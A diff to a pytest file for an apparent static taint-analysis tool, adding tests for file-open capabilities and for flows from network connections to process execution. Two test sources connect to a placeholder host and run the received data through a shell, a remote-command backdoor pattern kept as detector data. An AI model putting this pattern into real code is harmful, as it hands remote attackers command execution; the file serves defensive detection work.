@@ -2,7 +2,7 @@
 
 import pytest
 
-from pratique.analysis.facts import Taint
+from pratique.analysis.facts import Capability, Taint
 from pratique.analysis.languages.python.origins import answered, variable
 from pratique.analysis.languages.python.values import (
     CLIPBOARD,
@@ -15,7 +15,7 @@ from pratique.analysis.languages.python.values import (
     SECRETS,
     Value,
 )
-from tests.analysis.languages.python.reading import flows, value
+from tests.analysis.languages.python.reading import facts, flows, value
 
 
 @pytest.mark.parametrize(
@@ -83,3 +83,25 @@ def test_all_variables_together_are_told_apart_from_one_of_them(data: str, whole
     ((_, _, taints),) = flows(source)
     assert Taint.ENVIRONMENT in taints
     assert whole == (Taint.WHOLE_ENVIRONMENT in taints)
+
+
+def test_a_path_that_is_opened_is_read_or_written_by_its_mode() -> None:
+    source = "from pathlib import Path\nwith (Path.home() / 'notes').open({}) as f: pass"
+    for mode, capability in (
+        ("'a'", Capability.FILE_WRITE),
+        ("", Capability.FILE_READ),
+        ("'rb'", Capability.FILE_READ),
+    ):
+        (use,) = [use for use in facts(source.format(mode)).uses if use.api == "pathlib.Path.open"]
+        assert (capability, "~/notes") == (use.capability, use.argument)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import asyncio, subprocess\nasync def f():\n  r, w = await asyncio.open_connection('x.invalid', 9)\n  subprocess.run(await r.readline(), shell=True)",
+        "import websockets, os\nasync def f():\n  async with websockets.connect('wss://x.invalid') as s:\n    async for m in s:\n      os.system(m)",
+    ],
+)
+def test_what_a_connection_gives_comes_from_the_network(source: str) -> None:
+    assert any(sink is Capability.PROCESS and Taint.NETWORK in marks for sink, _, marks in flows(source))
